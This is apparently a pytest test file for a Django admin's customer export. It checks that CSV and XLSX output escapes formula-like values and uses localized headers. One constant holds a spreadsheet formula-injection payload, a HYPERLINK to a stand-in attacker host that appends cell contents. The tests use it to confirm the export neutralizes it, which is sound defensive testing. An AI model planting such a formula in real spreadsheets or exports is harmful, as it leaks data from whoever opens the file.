"""Customers out to CSV and XLSX from the admin: headed in the office's language, formulas never run."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from customers.spreadsheets import FORMULA_STARTS, escape_formula, unescape_formula
from tests.factories import CustomerFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'


def export(client, file_format: str, language="de"):
    # The export form lists CSV first, XLSX second.
    return client.post(
        reverse("admin:customers_customer_export"),
        {"format": {"csv": "0", "xlsx": "1"}[file_format], "resource": "0"},
        HTTP_ACCEPT_LANGUAGE=language,
    )


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_escaped_and_can_be_read_back(start):
    value = f"{start}1+1"

    assert escape_formula(value) == f"'{start}1+1"
    assert unescape_formula(escape_formula(value)) == value
    assert escape_formula("Klaus Hendricks") == "Klaus Hendricks"
    assert escape_formula(42) == 42


def test_the_csv_export_escapes_a_hostile_name_and_is_headed_in_the_offices_language(admin_client_office):
    CustomerFactory(full_name=HOSTILE, phone="+31628471937", country="NL", notes="@SUM(1)\tx")

    response = export(admin_client_office, "csv")

    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="kunden-' in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text)))
    assert header[:4] == ["ID", "Vollständiger Name", "E-Mail", "Telefon"]
    assert row[1] == "'" + HOSTILE
    assert row[3] == "'+31 6 28471937"
    assert row[header.index("Notizen")] == "'@SUM(1)\tx"
    assert row[header.index("Land")] == "Niederlande"


def test_the_xlsx_export_writes_a_hostile_name_as_text_never_as_a_formula(admin_client_office):
    CustomerFactory(full_name=HOSTILE, phone="+492821123456")

    response = export(admin_client_office, "xlsx", language="nl")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert [cell.value for cell in sheet[1]][:4] == ["ID", "Volledige naam", "E-mail", "Telefoon"]
    name = sheet["B2"]
    assert name.value == HOSTILE
    assert name.data_type == "s" and name.number_format == "@"
    assert sheet["D2"].value == "+49 2821 123456"
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_export_follows_the_lists_search(admin_client_office):
    CustomerFactory(full_name="Klaus Hendricks", city="Kleve")
    CustomerFactory(full_name="Anouk Jansen", city="Nijmegen")

    response = admin_client_office.post(
        reverse("admin:customers_customer_export") + "?q=Nijmegen", {"format": "0", "resource": "0"}
    )

    text = response.content.decode("utf-8-sig")
    assert "Anouk Jansen" in text and "Klaus Hendricks" not in text
